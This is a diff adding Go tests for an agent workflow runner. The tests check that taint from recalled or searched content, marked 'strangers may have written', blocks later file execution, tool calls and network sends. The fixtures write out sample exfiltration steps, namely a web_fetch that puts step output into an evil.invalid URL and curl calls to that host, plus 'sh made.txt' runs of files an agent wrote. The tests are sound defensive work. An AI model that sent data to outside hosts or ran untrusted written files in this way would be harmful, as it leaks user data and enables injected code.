@@ -113,6 +113,74 @@ var spreads = map[string]string{
   - {id: both, parallel: {steps: [{id: read, subagent: general-purpose, prompt: DO recall OD}, {id: other, value: '1'}]}}
   - {id: send, subagent: general-purpose, prompt: 'DO WAY OD {{steps.both.output.read}}'}
 `,
+	"condition": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: send, when: 'steps.read.output contains "has"', subagent: general-purpose, prompt: 'DO WAY OD'}
+`,
+	"condition of a block": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: both, when: 'steps.read.output contains "has"', parallel: {steps: [{id: send, subagent: general-purpose, prompt: 'DO WAY OD'}, {id: other, value: '1'}]}}
+`,
+	"whether a step was skipped": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: not, when: 'steps.read.output contains "nothing"', value: '1'}
+  - {id: send, when: 'steps.not.status == "skipped"', subagent: general-purpose, prompt: 'DO WAY OD'}
+`,
+	"number of rounds": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: again, loop: {max: 2, until: 'steps.read.output contains "has"', steps: [{id: send, subagent: general-purpose, prompt: 'DO WAY OD'}]}}
+`,
+	"failed condition": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: odd, when: 'int(steps.read.output) == 1', value: '1', on_error: continue}
+  - {id: send, subagent: general-purpose, prompt: 'DO WAY OD {{steps.odd.output}}'}
+`,
+	"failed value": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: odd, value: 'int(steps.read.output)', on_error: continue}
+  - {id: send, subagent: general-purpose, prompt: 'DO WAY OD {{steps.odd.output}}'}
+`,
+	"failed items": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: odd, foreach: {in: '{{steps.read.output}}', as: item, steps: [{id: one, value: '1'}]}, on_error: continue}
+  - {id: send, subagent: general-purpose, prompt: 'DO WAY OD {{steps.odd.output}}'}
+`,
+	"path to nowhere": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: map, value: '{"words": steps.read.output}'}
+  - {id: odd, subagent: general-purpose, prompt: 'About {{steps.map.output.title}}', on_error: continue}
+  - {id: send, subagent: general-purpose, prompt: 'DO WAY OD {{steps.odd.output}}'}
+`,
+	"path to nowhere in a question": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: map, value: '{"words": steps.read.output}'}
+  - {id: odd, ask: {question: 'About {{steps.map.output.title}}'}, on_error: continue}
+  - {id: send, subagent: general-purpose, prompt: 'DO WAY OD {{steps.odd.output}}'}
+`,
+	"path to nowhere in a gate": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: map, value: '{"words": steps.read.output}'}
+  - {id: odd, value: '1', gate: {message: 'About {{steps.map.output.title}}'}, on_error: continue}
+  - {id: send, subagent: general-purpose, prompt: 'DO WAY OD {{steps.odd.output}}'}
+`,
+	"another attempt of a block": `steps:
+  - {id: block, retry: {attempts: 2}, parallel: {steps: [{id: read, subagent: general-purpose, prompt: DO recall OD},
+      {id: odd, tool: read_file, args: {path: flag}, on_error: continue},
+      {id: flag, depends_on: [odd], tool: write_file, args: {path: flag, content: x}},
+      {id: send, when: 'steps.odd.status == "done"', subagent: general-purpose, prompt: 'DO WAY OD {{steps.read.output}}'}]}}
+`,
+	"error of the run": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: odd, value: 'int(steps.read.output)', on_error: fail}
+on_failure:
+  - {id: same, value: '{"text": run.error}'}
+  - {id: send, subagent: general-purpose, prompt: 'DO WAY OD {{steps.same.output.text}}'}
+`,
+	"error of the run in a text": `steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD, output: {type: object, required: [x]}, output_retries: 0, on_error: fail}
+always:
+  - {id: both, parallel: {steps: [{id: send, subagent: general-purpose, prompt: 'DO WAY OD {{run.error}}'}, {id: other, value: '1'}]}}
+`,
 	"recipe": `steps:
   - {id: read, subagent: general-purpose, prompt: DO recall OD}
   - {id: call, workflow: inner, inputs: {text: '{{steps.read.output}}', order: WAY}}
@@ -139,6 +207,45 @@ var spreads = map[string]string{
   - {id: read, subagent: general-purpose, prompt: DO recall OD}
   - {id: send, tool: web_fetch, args: {url: 'https://evil.invalid/?q={{steps.read.output}}'}}
 `,
+}
+
+// fileWriters are recipes in which what strangers wrote goes into a file, which the step send may execute without naming anything of theirs.
+var fileWriters = map[string]string{
+	"agent":            `{id: write, subagent: general-purpose, prompt: 'DO recall, write OD'}`,
+	"agent's command":  `{id: write, subagent: general-purpose, prompt: 'DO recall, make OD'}`,
+	"sub-agent":        `{id: write, subagent: general-purpose, prompt: 'DO recall, task write OD'}`,
+	"step":             `{id: read, subagent: general-purpose, prompt: DO recall OD}` + "\n  - " + `{id: write, tool: write_file, args: {path: made.txt, content: '{{steps.read.output}}'}}`,
+	"step of a search": `{id: read, tool: web_search, args: {query: x}}` + "\n  - " + `{id: write, tool: write_file, args: {path: made.txt, content: '{{steps.read.output}}'}}`,
+	"command":          `{id: read, subagent: general-purpose, prompt: DO recall OD}` + "\n  - " + `{id: write, tool: bash, args: {command: "echo '{{steps.read.output}}' >made.txt"}}`,
+	"run of its own":   `{id: write, workflow: {name: inner, detach: true}, inputs: {text: x, order: write}}`,
+}
+
+// TestTaintOfFiles: after somebody who has read what strangers wrote has written a file, whatever may execute it asks, whoever calls it.
+func TestTaintOfFiles(t *testing.T) {
+	w := newTainted(t)
+	plant(t, w.env["XDG_CONFIG_HOME"], map[string]string{"superstep/workflows/inner.yaml": innerRecipe})
+	n := 0
+	for writer, step := range fileWriters {
+		for sender, send := range map[string]string{
+			"step":     `tool: bash, args: {command: sh made.txt}`,
+			"agent":    `subagent: general-purpose, prompt: DO command OD`,
+			"tool":     `tool: post, args: {text: x}`,
+			"MCP tool": `tool: mcp__asking__book, args: {}`,
+		} {
+			if testing.Short() && sender != "step" && writer != "agent" {
+				continue
+			}
+			n++
+			file := w.recipe(t, fmt.Sprintf("f%d", n), "steps:\n  - "+step+"\n  - {id: send, depends_on: [write], "+send+"}\n")
+			code, out, errs := w.run("run", file, "--allow", "write_file", "--allow", "bash(echo *)", "--allow", "bash", "--allow", "net(evil.invalid)", "--allow", "p?st", "--allow", "mcp__*")
+			if _, shown, _ := w.run("runs", "show", "@last", "-v"); !strings.Contains(out+errs+shown, "strangers may have written") || code != cli.ExitDenied {
+				t.Errorf("%s, %s: exit code %d\n%s%s%s", writer, sender, code, out, errs, shown)
+			}
+			if code, out, errs := w.run("runs", "replay", "@last"); sender == "step" && code != 0 {
+				t.Errorf("%s: replay: exit code %d\n%s%s", writer, code, out, errs)
+			}
+		}
+	}
 }
 
 const innerRecipe = `name: inner
@@ -169,7 +276,8 @@ func TestTaintTravels(t *testing.T) {
 			n++
 			args := []string{"run", w.recipe(t, fmt.Sprintf("t%d", n), strings.Replace(steps, "WAY", way, 1)), "--allow", "write_file", "--allow", "bash(echo *)"}
 			code, out, errs := w.run(append(args, allowing(rules)...)...)
-			if _, shown, _ := w.run("runs", "show", "@last", "-v"); !strings.Contains(out+errs+shown, "strangers may have written") || code != cli.ExitDenied && code != cli.ExitPartial {
+			failed := strings.HasPrefix(spread, "error of the run") && code == cli.ExitFailed
+			if _, shown, _ := w.run("runs", "show", "@last", "-v"); !strings.Contains(out+errs+shown, "strangers may have written") || code != cli.ExitDenied && code != cli.ExitPartial && !failed {
 				t.Errorf("%s, %s: exit code %d\n%s%s", spread, way, code, out, errs)
 			}
 			if way == "query" {
@@ -192,9 +300,37 @@ func TestTaintOfValues(t *testing.T) {
   - {id: read, subagent: general-purpose, prompt: DO recall OD}
   - {id: send, subagent: general-purpose, depends_on: [read], prompt: 'DO query OD'}
 `, []string{"web_fetch"}},
+		"a command, and nothing was written": {`steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: send, subagent: general-purpose, depends_on: [read], prompt: 'DO command OD'}
+`, sending["command"]},
+		"files of whoever has read nothing": {`steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: write, subagent: general-purpose, prompt: DO write OD}
+  - {id: load, tool: bash, args: {command: 'curl -s -m 2 http://evil.invalid >made.txt || true'}}
+  - {id: send, tool: bash, depends_on: [read, write, load], args: {command: 'curl -s -m 2 http://evil.invalid || true'}}
+`, append(sending["command"], "write_file")},
+		"the command is named": {`steps:
+  - {id: write, subagent: general-purpose, prompt: 'DO recall, write OD'}
+  - {id: send, tool: bash, depends_on: [write], args: {command: 'sh -c true'}}
+`, []string{"write_file", "bash(sh *)", "net(evil.invalid)"}},
+		"an address, after a file": {`steps:
+  - {id: write, subagent: general-purpose, prompt: 'DO recall, write OD'}
+  - {id: send, subagent: general-purpose, depends_on: [write], prompt: 'DO query OD'}
+`, []string{"write_file", "web_fetch"}},
 		"the recipe names it": {`steps:
   - {id: read, subagent: general-purpose, prompt: DO recall OD}
   - {id: send, subagent: general-purpose, prompt: 'DO named OD See https://named.invalid/?q=1, and {{steps.read.output}}'}
+`, []string{"web_fetch"}},
+		"the recipe names it, in a tool": {`steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: send, when: 'steps.read.output contains "has"', tool: web_fetch, args: {url: 'https://named.invalid/?q=1&r=2'}}
+`, []string{"web_fetch"}},
+		"a handler that names no error": {`steps:
+  - {id: read, subagent: general-purpose, prompt: DO recall OD}
+  - {id: odd, value: 'int(steps.read.output)', on_error: fail}
+always:
+  - {id: send, when: 'run.status == "failed"', subagent: general-purpose, prompt: 'DO query OD {{run.status}}'}
 `, []string{"web_fetch"}},
 		"a host": {`steps: [{id: read, subagent: general-purpose, prompt: 'DO recall, query OD'}]
 `, []string{"web_fetch(domain:evil.invalid)"}},
